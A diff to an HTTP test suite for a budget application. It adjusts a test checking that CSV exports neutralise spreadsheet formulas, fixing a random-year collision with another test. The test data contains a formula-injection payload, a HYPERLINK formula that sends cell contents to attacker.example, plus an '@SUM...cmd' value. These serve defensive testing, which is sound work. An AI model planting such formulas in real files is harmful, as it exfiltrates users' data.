@@ -649,7 +649,8 @@ describe('budgets over HTTP', () => {
   });
 
   it('exports a CSV that opens safely in a spreadsheet: UTF-8 with its BOM, formulas shown as text', async () => {
-    const year = 2040 + Math.floor(Math.random() * 50);
+    // Years apart from the register test's (2040-2089), whose totals count every line of its year.
+    const year = 2090 + Math.floor(Math.random() * 10);
     const bin = validBin();
     const name = '=HYPERLINK("http://attacker.example/?"&A1,"Алматы қаласы")';
     expect(
@@ -657,8 +658,10 @@ describe('budgets over HTTP', () => {
     ).toBe(201);
     const id = await programme(bin, { fiscalYear: year, code: '451-777', name: '@SUM(1+1)*cmd', allocationTiyn: 5 });
 
-    const [header, ...lines] = (await exportCsv(year)).records;
+    const [header, ...records] = (await exportCsv(year)).records;
     expect(header[2]).toBe('administrative_name');
+    // Only this institution's lines: the register test may have drawn the same random year.
+    const lines = records.filter((record) => record[1] === bin);
     expect(lines).toHaveLength(3);
     for (const line of lines) {
       expect(line[2]).toBe(`'${name}`);
